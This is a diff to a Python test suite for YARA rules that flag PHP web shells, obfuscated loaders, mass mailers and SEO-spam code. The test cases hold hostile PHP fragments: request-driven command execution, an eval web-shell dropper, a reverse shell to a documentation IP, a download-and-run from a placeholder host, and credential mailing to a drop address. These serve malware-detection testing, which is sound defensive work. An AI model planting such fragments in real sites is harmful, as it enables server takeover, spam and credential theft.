@@ -60,7 +60,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_INPUT_ShellOfInput", php("system($_GET['c']);"), True),
     ("SPAMGEAR_INPUT_ShellOfInput", php("$o = `$_GET[c]`;"), True),
     ("SPAMGEAR_INPUT_ShellOfInput", php("system('uptime'); echo $_GET['c'];"), False),
-    ("SPAMGEAR_INPUT_ShellNearInput", php("exec('convert ' . escapeshellarg($_POST['f']) . ' o.png');"), True),
+    (
+        "SPAMGEAR_INPUT_ShellNearInput",
+        php("exec('convert ' . escapeshellarg($_POST['f']) . ' o.png');"),
+        True,
+    ),
     ("SPAMGEAR_INPUT_ShellNearInput", php("exec('convert in.png out.png'); $f = $_POST['f'];"), False),
     ("SPAMGEAR_INPUT_InputAsFunction", php("$_GET['f']($_GET['a']);"), True),
     ("SPAMGEAR_INPUT_InputAsFunction", php("echo $_GET['f'] . ' (note)';"), False),
@@ -83,7 +87,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_INPUT_ArbitraryFileWrite", php("file_put_contents($_POST['n'], $_POST['d']);"), True),
     ("SPAMGEAR_INPUT_ArbitraryFileWrite", php("file_put_contents('log.txt', $_POST['d']);"), False),
     ("SPAMGEAR_INPUT_TinyCallbackOfInput", php("$e = $_REQUEST['e']; array_filter(array(1), $e);"), True),
-    ("SPAMGEAR_INPUT_TinyCallbackOfInput", php("$ids = array_filter(array($_POST['p']), 'is_numeric');"), False),
+    (
+        "SPAMGEAR_INPUT_TinyCallbackOfInput",
+        php("$ids = array_filter(array($_POST['p']), 'is_numeric');"),
+        False,
+    ),
     ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x']($_GET['a']);"), True),
     ("SPAMGEAR_INPUT_CallResultOnInput", php("$h['x'] = ($_GET['a']);"), False),
     ("SPAMGEAR_INPUT_ShellConcatInput", php("exec('ping -c1 ' . $_GET['h']);"), True),
@@ -111,7 +119,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_OBFUSC_EscapedSinkName", php('$f = "\\x65\\x78\\x61\\x6d";'), False),
     ("SPAMGEAR_OBFUSC_EscapeSoup", php(" ".join(f'$v{i} = "{ESC_RUN}";' for i in range(4))), True),
     ("SPAMGEAR_OBFUSC_EscapeSoup", php(f'$v = "{ESC_RUN}";'), False),
-    ("SPAMGEAR_OBFUSC_ChrChain", php("$a = chr(101).chr(118).chr(97).chr(108); $b = chr(97).chr(115).chr(115).chr(101);"), True),
+    (
+        "SPAMGEAR_OBFUSC_ChrChain",
+        php("$a = chr(101).chr(118).chr(97).chr(108); $b = chr(97).chr(115).chr(115).chr(101);"),
+        True,
+    ),
     ("SPAMGEAR_OBFUSC_ChrChain", php("$a = chr(101).chr(118).chr(97).chr(108);"), False),
     ("SPAMGEAR_OBFUSC_ConcatSinkName", php("$f = 'ev'.'al';"), True),
     ("SPAMGEAR_OBFUSC_ConcatSinkName", php("$f = 'ev'.'ent';"), False),
@@ -128,7 +140,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_OBFUSC_UnderscoreSoup", php("$_='a'; $__=\"b\"; $___=[1]; $__($_);"), True),
     ("SPAMGEAR_OBFUSC_UnderscoreSoup", php("$_='a'; $__=\"b\"; $___=[1]; echo $__;"), False),
     ("SPAMGEAR_OBFUSC_PackedEntropy", php("eval(base64_decode('" + B64_RANDOM + "'));"), True),
-    ("SPAMGEAR_OBFUSC_PackedEntropy", php("$t = base64_decode($x);\n" + "echo 'hello world';\n" * 200), False),
+    (
+        "SPAMGEAR_OBFUSC_PackedEntropy",
+        php("$t = base64_decode($x);\n" + "echo 'hello world';\n" * 200),
+        False,
+    ),
     ("SPAMGEAR_OBFUSC_JunkTokenReassembly", php("$A = str_replace('Qv','',$b.$c.$d.$e);"), True),
     ("SPAMGEAR_OBFUSC_JunkTokenReassembly", php("$A = str_replace('Qv','',$b);"), False),
     ("SPAMGEAR_OBFUSC_LambdaFromVariable", php("$h=$u('',$A);$h();"), True),
@@ -149,12 +165,20 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced_46esab');"), True),
     ("SPAMGEAR_OBFUSC_ReversedSinkStrong", php("$f = strrev('edoced');"), False),
-    ("SPAMGEAR_OBFUSC_SplitSuperglobal", php("$v = ${\"_P\".\"OST\"}['x'];"), True),
+    ("SPAMGEAR_OBFUSC_SplitSuperglobal", php('$v = ${"_P"."OST"}[\'x\'];'), True),
     ("SPAMGEAR_OBFUSC_SplitSuperglobal", php("$v = ${\"_POST\"}['x'];"), False),
     ("SPAMGEAR_OBFUSC_Base64CodeLiteral", php("$c = base64_decode('PD9waHAgZWNobyAxOw==');"), True),
     ("SPAMGEAR_OBFUSC_Base64CodeLiteral", php("$c = base64_decode('aGVsbG8gd29ybGQ=');"), False),
-    ("SPAMGEAR_OBFUSC_Base64CodeDropper", php("file_put_contents('x.php', base64_decode('PD9waHAgZWNobyAxOw=='));"), True),
-    ("SPAMGEAR_OBFUSC_Base64CodeDropper", php("$c = base64_decode('PD9waHAgZWNobyAxOw=='); echo strlen($c);"), False),
+    (
+        "SPAMGEAR_OBFUSC_Base64CodeDropper",
+        php("file_put_contents('x.php', base64_decode('PD9waHAgZWNobyAxOw=='));"),
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_Base64CodeDropper",
+        php("$c = base64_decode('PD9waHAgZWNobyAxOw=='); echo strlen($c);"),
+        False,
+    ),
     ("SPAMGEAR_OBFUSC_IncrementSoup", php("$__=$_; " + "$__++; " * 9 + "$___.=$__; " * 3), True),
     ("SPAMGEAR_OBFUSC_IncrementSoup", php("$__=$_; " + "$__++; " * 3 + "$___.=$__;"), False),
     ("SPAMGEAR_OBFUSC_CharPicking", php("$a = $x{1}.$x{2}.$x{3}; $b = $x{4}.$x{5}.$x{6};"), True),
@@ -173,7 +197,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_OBFUSC_DecoderWrappers", php("function a($x){ return base64_decode($x); }"), False),
     ("SPAMGEAR_OBFUSC_EvalOfCustomDecoder", php('eval(dec("' + "A" * 250 + '"));'), True),
     ("SPAMGEAR_OBFUSC_EvalOfCustomDecoder", php('echo dec("' + "A" * 250 + '");'), False),
-    ("SPAMGEAR_OBFUSC_EmbeddedExecutable", php('$b = "\\x7f\\x45\\x4c\\x46\\x02"; file_put_contents("/tmp/b", $b);'), True),
+    (
+        "SPAMGEAR_OBFUSC_EmbeddedExecutable",
+        php('$b = "\\x7f\\x45\\x4c\\x46\\x02"; file_put_contents("/tmp/b", $b);'),
+        True,
+    ),
     ("SPAMGEAR_OBFUSC_EmbeddedExecutable", php('$b = "\\x7f\\x45\\x4c\\x46\\x02"; echo strlen($b);'), False),
     ("SPAMGEAR_OBFUSC_ConcatDecoderName", php("$f = 'base'.'64_decode';"), True),
     ("SPAMGEAR_OBFUSC_ConcatDecoderName", php("$f = 'base'.'line';"), False),
@@ -185,6 +213,36 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_OBFUSC_EscapedGlobalsMany",
         php(" ".join(f'${{"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}}["k{i}"] = {i};' for i in range(3))),
+        False,
+    ),
+    ("SPAMGEAR_OBFUSC_CharXorChain", php("$f = ('#'^'|').('.'^'~').('/'^'`').('|'^'/');"), True),
+    ("SPAMGEAR_OBFUSC_CharXorChain", php("$f = ('#'^'|');"), False),
+    (
+        "SPAMGEAR_OBFUSC_CommentInterleaved",
+        php("$f = 'a'. /*x*/'s'. /*x*/'s'. /*x*/'e'. /*x*/'r'. /*x*/'t';"),
+        True,
+    ),
+    ("SPAMGEAR_OBFUSC_CommentInterleaved", php("$f = 'a' . /* one note */ 'b';"), False),
+    ("SPAMGEAR_OBFUSC_SingleCharConcat", php("$f = 'a'.'s'.'s'.'e'.'r';"), True),
+    ("SPAMGEAR_OBFUSC_SingleCharConcat", php("$f = 'a'.'s'.'s';"), False),
+    ("SPAMGEAR_OBFUSC_VariableVariableCall", php("${$n}[0](${$n}[1]);"), True),
+    ("SPAMGEAR_OBFUSC_VariableVariableCall", php("$v = ${$n}[0];"), False),
+    (
+        "SPAMGEAR_OBFUSC_SuperglobalAliasCall",
+        php("$c = $_COOKIE; $f = $c['a']; $g = $f('', $c['b']); $g();"),
+        True,
+    ),
+    ("SPAMGEAR_OBFUSC_SuperglobalAliasCall", php("$c = $_COOKIE; $theme = $c['theme'];"), False),
+    ("SPAMGEAR_OBFUSC_EvalPatternViaVariable", php("$r = 'x'; $r('/.*/e', $_POST['h'], 'a');"), True),
+    ("SPAMGEAR_OBFUSC_EvalPatternViaVariable", php("$r = 'x'; $r('/.*/i', $_POST['h'], 'a');"), False),
+    (
+        "SPAMGEAR_OBFUSC_OneLinerInLiteral",
+        php("$a = '<?php @eval($_POST[k]);?>'; file_put_contents('x.php', $a);"),
+        True,
+    ),
+    (
+        "SPAMGEAR_OBFUSC_OneLinerInLiteral",
+        php("$a = '<?php echo 1; ?>'; file_put_contents('x.php', $a);"),
         False,
     ),
     # --- filemanager.yar ---------------------------------------------------------------------
@@ -207,8 +265,16 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),
     ("SPAMGEAR_SHELLUI_HostProbes", php("php_uname(); ini_get('safe_mode');"), False),
-    ("SPAMGEAR_SHELLUI_ReverseShell", php("$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', $d, $p);"), True),
-    ("SPAMGEAR_SHELLUI_ReverseShell", php("$s = fsockopen('mail.example.com', 25); fwrite($s, \"HELO x\\r\\n\");"), False),
+    (
+        "SPAMGEAR_SHELLUI_ReverseShell",
+        php("$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', $d, $p);"),
+        True,
+    ),
+    (
+        "SPAMGEAR_SHELLUI_ReverseShell",
+        php("$s = fsockopen('mail.example.com', 25); fwrite($s, \"HELO x\\r\\n\");"),
+        False,
+    ),
     (
         "SPAMGEAR_SHELLUI_EmbeddedBackconnect",
         php("$p = \"#!/usr/bin/perl\\nuse Socket;\\nexec('/bin/sh');\"; file_put_contents('/tmp/b.pl', $p);"),
@@ -219,7 +285,11 @@ CASES: list[tuple[str, bytes, bool]] = [
         php("$p = \"#!/usr/bin/perl\\nprint 'hi';\"; file_put_contents('/tmp/b.pl', $p);"),
         False,
     ),
-    ("SPAMGEAR_SHELLUI_BareUploader", php("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"), True),
+    (
+        "SPAMGEAR_SHELLUI_BareUploader",
+        php("move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
+        True,
+    ),
     (
         "SPAMGEAR_SHELLUI_BareUploader",
         php(
@@ -237,7 +307,10 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_SHELLUI_UploadForm", b'<form enctype="multipart/form-data" method="post"></form>', False),
     (
         "SPAMGEAR_SHELLUI_PrivescMenu",
-        php("$m = array('find / -type f -perm -04000 -ls', 'find / -type f -perm -02000 -ls', 'cat /etc/passwd');"),
+        php(
+            "$m = array('find / -type f -perm -04000 -ls', 'find / -type f -perm -02000 -ls',"
+            " 'cat /etc/passwd');"
+        ),
         True,
     ),
     ("SPAMGEAR_SHELLUI_PrivescMenu", php("$m = array('cat /etc/passwd');"), False),
@@ -268,7 +341,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_SHELLUI_PasswdAndSymlink", php("$u = file('/etc/passwd'); symlink('/home/u/x', 'y');"), True),
     ("SPAMGEAR_SHELLUI_PasswdAndSymlink", php("symlink('a', 'b');"), False),
     ("SPAMGEAR_SHELLUI_ScriptDropper", php("$f = fopen('bc.pl', 'w'); fwrite($f, base64_decode($p));"), True),
-    ("SPAMGEAR_SHELLUI_ScriptDropper", php("$f = fopen('log.txt', 'w'); fwrite($f, base64_decode($p));"), False),
+    (
+        "SPAMGEAR_SHELLUI_ScriptDropper",
+        php("$f = fopen('log.txt', 'w'); fwrite($f, base64_decode($p));"),
+        False,
+    ),
     ("SPAMGEAR_SHELLUI_DownloadAndRun", php("exec('cd /tmp; wget http://example.invalid/x; perl x');"), True),
     ("SPAMGEAR_SHELLUI_DownloadAndRun", php("exec('wget --version');"), False),
     (
@@ -279,7 +356,11 @@ CASES: list[tuple[str, bytes, bool]] = [
         ),
         True,
     ),
-    ("SPAMGEAR_SHELLUI_IrcBot", php("$s = fsockopen('irc.example.invalid', 6667); fwrite($s, 'PRIVMSG #c :hi');"), False),
+    (
+        "SPAMGEAR_SHELLUI_IrcBot",
+        php("$s = fsockopen('irc.example.invalid', 6667); fwrite($s, 'PRIVMSG #c :hi');"),
+        False,
+    ),
     # --- mailer.yar --------------------------------------------------------------------------
     (
         "SPAMGEAR_MAILER_LoopOverInputList",
@@ -288,7 +369,10 @@ CASES: list[tuple[str, bytes, bool]] = [
     ),
     (
         "SPAMGEAR_MAILER_LoopOverInputList",
-        php("$to = 'admin@example.com'; foreach ($rows as $r) { $s .= $r; } mail($to, $s, $m); $x = explode(',', $tags);"),
+        php(
+            "$to = 'admin@example.com'; foreach ($rows as $r) { $s .= $r; } mail($to, $s, $m);"
+            " $x = explode(',', $tags);"
+        ),
         False,
     ),
     ("SPAMGEAR_MAILER_InputRecipient", php("mail($_POST['to'], 'Hi', 'x');"), True),
@@ -298,7 +382,7 @@ CASES: list[tuple[str, bytes, bool]] = [
         php(
             "$from = $_POST['from']; $rt = $_POST['replyto']; $subject = $_POST['subject'];"
             " $msg = $_POST['message']; $list = $_POST['emaillist'];"
-            " foreach (explode(\"\\n\", $list) as $to) { mail($to, $subject, $msg); }"
+            ' foreach (explode("\\n", $list) as $to) { mail($to, $subject, $msg); }'
         ),
         True,
     ),
@@ -315,14 +399,17 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_MAILER_SmtpFromInput",
         php(
-            "$s = fsockopen($h, 25); fwrite($s, \"HELO x\\r\\n\");"
+            '$s = fsockopen($h, 25); fwrite($s, "HELO x\\r\\n");'
             " foreach ($_POST['rcpt'] as $r) { fwrite($s, \"RCPT TO: <$r>\\r\\n\"); }"
         ),
         True,
     ),
     (
         "SPAMGEAR_MAILER_SmtpFromInput",
-        php("$s = fsockopen($h, 25); fwrite($s, \"HELO x\\r\\n\"); foreach ($rc as $r) { fwrite($s, \"RCPT TO: <$r>\"); }"),
+        php(
+            '$s = fsockopen($h, 25); fwrite($s, "HELO x\\r\\n");'
+            ' foreach ($rc as $r) { fwrite($s, "RCPT TO: <$r>"); }'
+        ),
         False,
     ),
     ("SPAMGEAR_MAILER_MailInLoopSmall", php("foreach ($_POST['to'] as $t) { mail($t, 's', 'm'); }"), True),
@@ -332,10 +419,17 @@ CASES: list[tuple[str, bytes, bool]] = [
         php("$to = base64_decode($_POST['a']); $s = base64_decode($_POST['b']); mail($to, $s, 'x');"),
         True,
     ),
-    ("SPAMGEAR_MAILER_EncodedRelay", php("$s = base64_decode($_POST['b']); mail('a@example.com', $s, 'x');"), False),
+    (
+        "SPAMGEAR_MAILER_EncodedRelay",
+        php("$s = base64_decode($_POST['b']); mail('a@example.com', $s, 'x');"),
+        False,
+    ),
     (
         "SPAMGEAR_MAILER_CredentialExfil",
-        php("$m = $_POST['email'] . $_POST['password'] . $_SERVER['REMOTE_ADDR']; mail('drop@example.invalid', 'l', $m);"),
+        php(
+            "$m = $_POST['email'] . $_POST['password'] . $_SERVER['REMOTE_ADDR'];"
+            " mail('drop@example.invalid', 'l', $m);"
+        ),
         True,
     ),
     (
@@ -416,7 +510,11 @@ CASES: list[tuple[str, bytes, bool]] = [
     ("SPAMGEAR_FAMILY_Weevely", php("$a = str_replace('K', '', $x); $f = create_function('', $a);"), False),
     ("SPAMGEAR_FAMILY_P0wny", php("function featureShell($c) {} function featurePwd() {} exec($c);"), True),
     ("SPAMGEAR_FAMILY_P0wny", php("function featureShell($c) {} exec($c);"), False),
-    ("SPAMGEAR_FAMILY_Alfa", php("function alfaCmd() {} function alfaFiles() {} function alfaSql() {} system($c);"), True),
+    (
+        "SPAMGEAR_FAMILY_Alfa",
+        php("function alfaCmd() {} function alfaFiles() {} function alfaSql() {} system($c);"),
+        True,
+    ),
     ("SPAMGEAR_FAMILY_Alfa", php("function alfaCmd() {} function alfaFiles() {} system($c);"), False),
     (
         "SPAMGEAR_FAMILY_ExecFallbackChain",
@@ -445,14 +543,26 @@ CASES: list[tuple[str, bytes, bool]] = [
         php("$ua = $_SERVER['HTTP_USER_AGENT']; if (stripos($ua, 'googlebot') !== false) { $bot = true; }"),
         False,
     ),
-    ("SPAMGEAR_SEOSPAM_IpPhoneHome", php("file_get_contents('http://203.0.113.7/x.php?h=' . $_SERVER['HTTP_HOST']);"), True),
-    ("SPAMGEAR_SEOSPAM_IpPhoneHome", php("file_get_contents('http://127.0.0.1/x.php?h=' . $_SERVER['HTTP_HOST']);"), False),
     (
-        "SPAMGEAR_SEOSPAM_RemoteTemplateEcho",
-        php("$c = file_get_contents($srv . \"/index.php?host=\" . $h); echo $c;"),
+        "SPAMGEAR_SEOSPAM_IpPhoneHome",
+        php("file_get_contents('http://203.0.113.7/x.php?h=' . $_SERVER['HTTP_HOST']);"),
         True,
     ),
-    ("SPAMGEAR_SEOSPAM_RemoteTemplateEcho", php("$c = file_get_contents($srv . \"/index.php\"); echo $c;"), False),
+    (
+        "SPAMGEAR_SEOSPAM_IpPhoneHome",
+        php("file_get_contents('http://127.0.0.1/x.php?h=' . $_SERVER['HTTP_HOST']);"),
+        False,
+    ),
+    (
+        "SPAMGEAR_SEOSPAM_RemoteTemplateEcho",
+        php('$c = file_get_contents($srv . "/index.php?host=" . $h); echo $c;'),
+        True,
+    ),
+    (
+        "SPAMGEAR_SEOSPAM_RemoteTemplateEcho",
+        php('$c = file_get_contents($srv . "/index.php"); echo $c;'),
+        False,
+    ),
 ]
 
 # Whole-file verdicts (summed score vs threshold): typical shells are malicious, ordinary app code is not.
@@ -463,12 +573,19 @@ VERDICTS: list[tuple[str, bytes, bool]] = [
     ("htaccess", b"AddHandler application/x-httpd-php .gif\n", True),
     (
         "mass mailer",
-        php("foreach (explode(\"\\n\", $_POST['emaillist']) as $to) { @mail(trim($to), $_POST['subject'], $_POST['message']); }"),
+        php(
+            "foreach (explode(\"\\n\", $_POST['emaillist']) as $to)"
+            " { @mail(trim($to), $_POST['subject'], $_POST['message']); }"
+        ),
         True,
     ),
     ("packed", php("eval(gzinflate(base64_decode('" + B64_RANDOM[:400] + "')));"), True),
     ("contact form", php("mail('owner@example.com', 'Contact', strip_tags($_POST['message']));"), False),
-    ("controller", php("$id = (int) $_GET['id']; $row = $db->fetch($id); echo htmlspecialchars($row['title']);"), False),
+    (
+        "controller",
+        php("$id = (int) $_GET['id']; $row = $db->fetch($id); echo htmlspecialchars($row['title']);"),
+        False,
+    ),
     ("image tool", php("exec('convert ' . escapeshellarg($path) . ' thumb.png', $out, $rc);"), False),
     ("cli helper", php("$out = shell_exec('git rev-parse HEAD'); echo trim($out);"), False),
 ]
@@ -517,13 +634,17 @@ def test_every_rule_has_a_positive_and_a_negative_sample() -> None:
     assert declared, "no rules found under signatures/"
     positives = {r for r, _, m in CASES if m}
     negatives = {r for r, _, m in CASES if not m}
-    assert not set(declared) - positives, f"rules without a must-hit sample: {sorted(set(declared) - positives)}"
-    assert not set(declared) - negatives, f"rules without a near-miss sample: {sorted(set(declared) - negatives)}"
+    assert not set(declared) - positives, (
+        f"rules without a must-hit sample: {sorted(set(declared) - positives)}"
+    )
+    assert not set(declared) - negatives, (
+        f"rules without a near-miss sample: {sorted(set(declared) - negatives)}"
+    )
     assert not (positives | negatives) - set(declared), "samples name rules that do not exist"
 
 
 def test_rule_names_meta_and_headers() -> None:
-    for name, path in declared_rules().items():
+    for name in declared_rules():
         assert re.fullmatch(r"SPAMGEAR_[A-Z0-9]+_\w+", name), name
     for path in rule_files():
         text = path.read_text()
@@ -585,7 +706,9 @@ def _scan_chunk(paths: list[str]) -> list[tuple[str, int, list[str]]]:
 def test_clean_debian_php_trees_have_no_malicious_verdict() -> None:
     present = [r for r in CLEAN_ROOTS[:4] if Path(r).is_dir()]
     if not present:
-        pytest.skip("no clean Debian PHP tree installed (apt packages wordpress mediawiki phpmyadmin roundcube-core)")
+        pytest.skip(
+            "no clean Debian PHP tree installed (apt packages wordpress mediawiki phpmyadmin roundcube-core)"
+        )
     files = list(_clean_files())
     assert len(files) > 1000, f"only {len(files)} clean PHP files found"
     chunks = [files[i : i + 400] for i in range(0, len(files), 400)]
